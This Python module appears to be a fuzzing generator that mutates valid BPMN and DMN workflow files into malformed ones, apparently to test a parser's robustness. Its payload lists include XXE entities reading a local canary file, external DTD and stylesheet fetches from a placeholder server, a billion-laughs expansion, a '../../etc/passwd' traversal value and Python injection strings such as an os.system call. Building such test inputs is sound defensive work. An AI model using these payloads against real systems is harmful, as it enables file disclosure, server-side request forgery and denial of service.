"""Broken BPMN and DMN files, made from sound ones by a seeded generator."""

import random
from collections.abc import Callable

from lxml import etree

Mutate = Callable[[random.Random, bytes], bytes]
_BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
_TAGS = (
    "userTask serviceTask scriptTask subProcess transaction adHocSubProcess exclusiveGateway parallelGateway"
    " inclusiveGateway eventBasedGateway complexGateway startEvent endEvent boundaryEvent intermediateCatchEvent"
    " intermediateThrowEvent callActivity businessRuleTask sequenceFlow process definitions lane messageEventDefinition"
    " timerEventDefinition errorEventDefinition cancelEventDefinition linkEventDefinition dataObject"
    " signalEventDefinition timeDate timeCycle completionCondition loopDataInputRef inputDataItem"
    " multiInstanceLoopCharacteristics standardLoopCharacteristics extensionElements inputEntry rule decisionTable"
).split()
_VALUES = (
    "",
    " ",
    "Start",
    "End",
    "Root",
    "true",
    "-1",
    "9" * 400,
    "é中\u202e",
    "../../etc/passwd",
    "__class__",
    "x" * 100_000,
    "a b",
    "p:q",
    "None",
    "1e309",
)
_EXPRESSIONS = (
    "().__class__.__bases__",
    "9**9**9**9",
    "[x for x in y]",
    "lambda: 0",
    "'a' * 10**9",
    "(" * 500,
    "not " * 2000 + "1",
    "1 if " * 100,
    "__import__('os').system('id')",
    "f'{x}'",
    "\ud7ff\\N{DIGIT ONE}",
    "len(" * 30 + ")" * 30,
    "x" + " or x" * 5000,
    "exit()",
)


def mutant(number: int, sources: list[bytes], address: str, canary: str) -> bytes:
    """Return the broken file of a number; the same each time.

    Args:
        address: A server that nobody may call.
        canary: The path of a file that nobody may read.
    """
    rng = random.Random(number)
    content = rng.choice(sources)
    kinds: list[Mutate] = [*_IN_TREE, *_IN_BYTES, lambda r, c: _outside(r, c, address, canary)]
    for _ in range(rng.choice((1, 1, 2, 4))):
        content = rng.choice(kinds)(rng, content)
    return content


def _tree(change: Callable[[random.Random, etree._Element, list[etree._Element]], None]) -> Mutate:
    def mutate(rng: random.Random, content: bytes) -> bytes:
        try:
            root = etree.fromstring(content, etree.XMLParser(resolve_entities=False, no_network=True))
            change(rng, root, [e for e in root.iter() if isinstance(e.tag, str)])
            return etree.tostring(root, xml_declaration=True, encoding="utf-8")
        except (etree.XMLSyntaxError, ValueError, RecursionError):
            return content

    return mutate


@_tree
def _remove(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    for element in rng.sample(elements, min(len(elements), rng.choice((1, 3, 20)))):
        if element.getparent() is not None:
            element.getparent().remove(element)


@_tree
def _repeat(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    element, times = rng.choice(elements[1:] or elements), rng.choice((1, 2, 50))
    if element.getparent() is not None and len(etree.tostring(element)) * times < 3_000_000:
        for _ in range(times):
            element.addnext(etree.fromstring(etree.tostring(element)))


@_tree
def _move(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    element, target = rng.choice(elements), rng.choice(elements)
    if element is not root and element not in target.iterancestors() and element is not target:
        target.append(element)


@_tree
def _retag(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    for element in rng.sample(elements, min(len(elements), rng.choice((1, 5)))):
        element.tag = f"{{{_BPMN}}}{rng.choice(_TAGS)}"


@_tree
def _reattribute(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    for element in rng.sample(elements, min(len(elements), rng.choice((1, 5, 30)))):
        names = list(element.attrib)
        if names and rng.random() < 0.2:
            del element.attrib[rng.choice(names)]
        elif names:
            other = rng.choice(elements)
            value = rng.choice((*_VALUES, *(str(v) for v in other.attrib.values())))
            element.set(rng.choice(names), value)


@_tree
def _express(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    for element in rng.sample(elements, min(len(elements), 40)):
        for name in list(element.attrib):
            if name in ("expression", "when", "value", "key", "from") or "hen" in name:
                element.set(name, rng.choice(_EXPRESSIONS))
        if etree.QName(element).localname in ("conditionExpression", "text", "condition"):
            element.text = rng.choice(_EXPRESSIONS)


@_tree
def _loop(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    flows = [e for e in elements if etree.QName(e).localname == "sequenceFlow"]
    for flow in rng.sample(flows, min(len(flows), 5)):
        flow.set("targetRef", rng.choice(flows).get("sourceRef") or "")


@_tree
def _nest(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    inner = rng.choice(elements)
    for number in range(rng.choice((5, 40, 150, 240))):
        inner = etree.SubElement(
            inner, f"{{{_BPMN}}}{rng.choice(('subProcess', 'transaction', 'lane'))}", id=f"n{number}"
        )


@_tree
def _crowd(rng: random.Random, root: etree._Element, elements: list[etree._Element]) -> None:
    process = next((e for e in elements if etree.QName(e).localname == "process"), root)
    count, last = rng.choice((50, 400, 4000)), None
    for number in range(count):
        etree.SubElement(
            process, f"{{{_BPMN}}}{rng.choice(('task', 'exclusiveGateway', 'userTask'))}", id=f"c{number}"
        )
        if last is not None:
            ends = {"sourceRef": last, "targetRef": f"c{number}"}
            etree.SubElement(process, f"{{{_BPMN}}}sequenceFlow", id=f"f{number}", **ends)
        last = f"c{number}"
    flows = [e for e in elements if etree.QName(e).localname == "sequenceFlow"]
    if flows:
        rng.choice(flows).set("targetRef", "c0")


def _cut(rng: random.Random, content: bytes) -> bytes:
    return content[: rng.randrange(len(content) + 1)]


def _flip(rng: random.Random, content: bytes) -> bytes:
    changed = bytearray(content)
    for _ in range(rng.choice((1, 10, 200))):
        if changed:
            changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)


def _recode(rng: random.Random, content: bytes) -> bytes:
    text = content.decode("utf-8", "replace")
    declared = rng.choice(("utf-16", "gb18030", "utf-7", "ascii", "utf-32", "latin-1", "no-such", "utf-8"))
    written = rng.choice(("utf-16", "gb18030", "utf-8-sig", "utf-8", "utf-32"))
    body = text.split("?>", 1)[-1] if text.startswith("<?xml") else text
    return f'<?xml version="1.0" encoding="{declared}"?>{body}'.encode(written, "replace")


def _junk(rng: random.Random, content: bytes) -> bytes:
    return rng.choice(
        (
            b"",
            rng.randbytes(rng.choice((10, 5000))),
            b"\x00" * 1000,
            b"<" * 50_000,
            b"<a>" * 100_000,
            b"<a " + b" ".join(b'a%d=""' % n for n in range(50_000)) + b"/>",
            b"PK\x03\x04" + content,
            content + content,
            content.replace(b"MODEL", b"OTHER"),
            content + b" " * 3_000_000,
            b"<!--" + b"-" * 500_000 + content,
        )
    )


def _outside(rng: random.Random, content: bytes, address: str, canary: str) -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    subset = rng.choice(
        (
            f'<!DOCTYPE definitions [<!ENTITY x SYSTEM "file://{canary}">]>',
            f'<!DOCTYPE definitions SYSTEM "http://{address}/x.dtd">',
            f'<!DOCTYPE definitions [<!ENTITY % x SYSTEM "http://{address}/x.dtd"> %x;]>',
            f'<!DOCTYPE definitions [<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l11;">]>',
            f'<!DOCTYPE definitions [<!ENTITY x "{"y" * 100_000}">]>',
            f'<?xml-stylesheet type="text/xsl" href="http://{address}/x.xsl"?>',
            "",
        )
    ).encode()
    head, found, rest = content.partition(b"?>")
    body = rest if found else content
    uses = rng.choice(
        (
            b"&x;",
            b"&x;" * 1000,
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}" parse="text"/>'.encode(),
            f'<import location="http://{address}/x.bpmn" importType="x" namespace="y"/>'.encode(),
        )
    )
    at = body.find(b">", len(body) // 2) + 1
    return (head + found if found else b"") + subset + body[:at] + uses + body[at:]


_IN_TREE: list[Mutate] = [_remove, _repeat, _move, _retag, _reattribute, _express, _loop, _nest, _crowd]
_IN_BYTES: list[Mutate] = [_cut, _flip, _recode, _junk]
